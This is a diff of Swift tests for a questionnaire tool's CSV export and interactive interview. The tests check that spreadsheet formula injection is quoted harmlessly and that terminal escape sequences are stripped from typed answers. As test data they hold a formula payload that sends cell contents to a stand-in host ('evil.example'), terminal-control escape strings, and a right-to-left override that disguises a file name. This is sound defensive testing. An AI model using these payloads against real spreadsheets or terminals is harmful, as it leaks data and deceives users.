@@ -19,8 +19,8 @@ let formulaPayloads = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=c
         let written = [answer("comment", .text(payload), note: payload), answer("managers", .number(-5))]
         let text = AnswersFile.export(written, questionnaire: questionnaire, format: .csv, language: .en)
         let quoted = "\"'" + payload.replacingOccurrences(of: "\"", with: "\"\"") + "\""
-        #expect(text.contains(";" + quoted + ";" + quoted + "\r\n"), "\(text)")
-        #expect(text.contains(";-5;\r\n"), "a number the tool writes stays a number")
+        #expect(text.contains(";" + quoted + ";" + quoted + ";;\r\n"), "\(text)")
+        #expect(text.contains(";-5;;;\r\n"), "a number the tool writes stays a number")
         let (read, diagnostics, _) = AnswersFile.read(text: text, file: "a.csv", format: .csv, questionnaire: questionnaire, answeredAt: "t")
         #expect(!diagnostics.contains { $0.severity == .error && !$0.text.en.contains("managers") })
         let comment = read.first { $0.questionID == "comment" }
@@ -32,8 +32,9 @@ let formulaPayloads = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=c
 @Suite struct InterviewTerminalInjection {
     static let hostile = "\u{1B}]0;pwned\u{07}\u{1B}[2JHello"
 
-    /// The answer is stored as typed; what reaches the screen has no escape sequence of its own
-    /// (only the interview's colours on a terminal) and no BEL.
+    /// What is typed is cleaned of escape sequences and controls before it is read or stored
+    /// (a pasted answer may carry them); what reaches the screen has no escape sequence of its
+    /// own (only the interview's colours on a terminal) and no BEL.
     @Test(arguments: [false, true])
     func aTypedAnswerWithEscapeSequencesIsShownHarmless(onATerminal: Bool) throws {
         let fixture = try InterviewFixture()
@@ -43,7 +44,7 @@ let formulaPayloads = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=c
         var console = ScriptedConsole(["2", "yes", "2026-03-01", "1,2", "7", Self.hostile])
         console.isTerminal = onATerminal
         _ = try interview.run(console: &console)
-        #expect(try fixture.stored()["comment"]?.value == .text(Self.hostile))
+        #expect(try fixture.stored()["comment"]?.value == .text("Hello"))
         var again = try Interview(questionnaire: fixture.questionnaire, workspace: fixture.workspace,
                                   round: try fixture.workspace.round(), language: .en)
         var second = ScriptedConsole(["n", "note \u{1B}[2J\u{202E}txt.exe", ""])
